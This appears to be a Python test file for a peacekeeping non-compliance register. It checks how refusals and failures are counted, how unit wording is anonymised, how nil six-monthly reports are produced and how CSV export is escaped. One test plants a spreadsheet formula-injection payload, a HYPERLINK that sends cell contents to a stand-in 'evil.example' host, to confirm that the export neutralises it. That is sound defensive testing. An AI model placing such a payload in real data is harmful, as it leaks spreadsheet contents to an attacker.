"""The non-compliance register: refusals and failures, and the six-monthly (nil) report."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

from sqlalchemy.orm import Session, sessionmaker

from alerts.audit.domain.hxl import is_hashtag
from alerts.audit.domain.periods import Period, half_year
from alerts.audit.reports.latency import build_latency
from alerts.audit.reports.model import NoncomplianceReport, ReportRequest
from alerts.audit.reports.noncompliance import build_noncompliance
from alerts.audit.reports.render import render
from tests.audit.scenario import Scenario, at


def refusal_and_failure(factory: sessionmaker[Session]) -> None:
    s = Scenario.create(factory)
    a = s.incident(0, ref="AAAAA")
    t1 = s.task(1, a, "QRF-BENI-1")
    s.reply(3, a, t1, "declined")
    s.noncompliance(
        3, a, t1, "QRF-BENI-1", category="refusal", trigger="declined",
        reason_code="national_caveat", reason_text="NO AAAAA our caveat forbids night moves",
    )  # fmt: skip
    t2 = s.task(4, a, "QRF-BENI-2")
    s.noncompliance(
        9, a, t2, "QRF-BENI-2", category="failure", trigger="no_ack",
        reason_code="communication", event=False,
    )  # fmt: skip


def build(factory: sessionmaker[Session], period: Period, **kw: object) -> NoncomplianceReport:
    with factory() as session:
        return build_noncompliance(session, ReportRequest(period=period, **kw), at(500))  # type: ignore[arg-type]


def test_register_holds_refusals_and_failures(factory: sessionmaker[Session]) -> None:
    refusal_and_failure(factory)
    report = build(factory, half_year("2026H1"))
    assert not report.nil and (report.refusals, report.failures) == (1, 1)
    first, second = report.rows
    assert (first.category, first.trigger, first.reason_code) == (
        "refusal",
        "declined",
        "national_caveat",
    )
    assert (first.unit, first.base, first.country, first.mission) == (
        "QRF-BENI-1",
        "Beni",
        "Ruritania",
        "MONUSCO",
    )
    assert first.occurred_at == at(3) and first.attested
    assert (second.unit, second.country, second.attested) == ("QRF-BENI-2", None, False)
    assert report.unattested == 1
    assert report.by_reason == {
        "communication": {"refusal": 0, "failure": 1},
        "national_caveat": {"refusal": 1, "failure": 0},
    }
    assert [(m.mission, m.refusals, m.failures) for m in report.missions] == [("MONUSCO", 1, 1)]


def test_the_units_own_words_only_in_full(factory: sessionmaker[Session]) -> None:
    refusal_and_failure(factory)
    anonymised = build(factory, half_year("2026H1"))
    assert "caveat forbids" not in render(anonymised, "csv").content
    assert "caveat forbids" not in render(anonymised, "html").content
    full = build(factory, half_year("2026H1"), detail="full")
    assert "caveat forbids night moves" in render(full, "csv").content


def test_nil_report_for_an_empty_half_year(factory: sessionmaker[Session]) -> None:
    refusal_and_failure(factory)  # all in 2026H1
    report = build(factory, half_year("2026H2"))
    assert report.nil and report.rows == []
    assert [(m.mission, m.nil) for m in report.missions] == [("MONUSCO", True)]
    html = render(report, "html").content
    assert "NIL REPORT" in html
    assert "no refusal and no failure to follow orders was recorded" in html
    assert "due 1 January 2027" in html
    body = json.loads(render(report, "json").content)
    assert body["summary"]["nil_report"] is True and body["period"]["due"] == "2027-01-01"
    assert body["summary"]["missions"] == [
        {"mission": "MONUSCO", "refusals": 0, "failures": 0, "nil": True}
    ]


def test_nil_report_with_nothing_configured_at_all(factory: sessionmaker[Session]) -> None:
    report = build(factory, half_year("2026H1"))
    assert report.nil and report.missions == []
    assert "NIL REPORT" in render(report, "html").content


def test_csv_register_with_hxl(factory: sessionmaker[Session]) -> None:
    refusal_and_failure(factory)
    rows = list(csv.reader(io.StringIO(render(build(factory, half_year("2026H1")), "csv").content)))
    assert rows[0][:3] == ["occurred_at", "recorded_at", "category"]
    assert all(is_hashtag(t) for t in rows[1]) and len(rows) == 4
    missions = render(build(factory, half_year("2026H1")), "csv", "missions").content
    assert "MONUSCO,1,1,False" in missions


def test_period_and_mission_filters(factory: sessionmaker[Session]) -> None:
    refusal_and_failure(factory)
    march_2 = Period(date(2026, 3, 2), date(2026, 3, 2))
    assert len(build(factory, march_2).rows) == 2
    assert build(factory, Period(date(2026, 3, 3), date(2026, 3, 31))).nil
    other = build(factory, march_2, mission="UNMISS")
    assert other.nil and [m.mission for m in other.missions] == ["UNMISS"]


def test_a_units_words_never_become_a_formula_and_numbers_stay_numbers(
    factory: sessionmaker[Session],
) -> None:
    s = Scenario.create(factory)
    goma = s.incident(0, ref="GGGGG", lat=-1.6792, lon=29.2228)  # south of the equator
    tasking = s.task(1, goma, "QRF-BENI-1")
    s.reply(2, goma, tasking, "declined")
    words = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    s.noncompliance(
        2, goma, tasking, "QRF-BENI-1", category="refusal", trigger="declined",
        reason_code="other", reason_text=words,
    )  # fmt: skip
    full = build(factory, half_year("2026H1"), detail="full")
    register = list(csv.DictReader(io.StringIO(render(full, "csv").content)))
    assert register[1]["reason_text"] == "'" + words  # row 0 is the HXL hashtags
    period = Period(date(2026, 3, 2), date(2026, 3, 2))
    with factory() as session:
        latency = build_latency(session, ReportRequest(period=period, detail="full"), at(500))
    incidents = list(csv.DictReader(io.StringIO(render(latency, "csv").content)))
    assert (incidents[1]["lat"], incidents[1]["lon"]) == ("-1.6792", "29.2228")
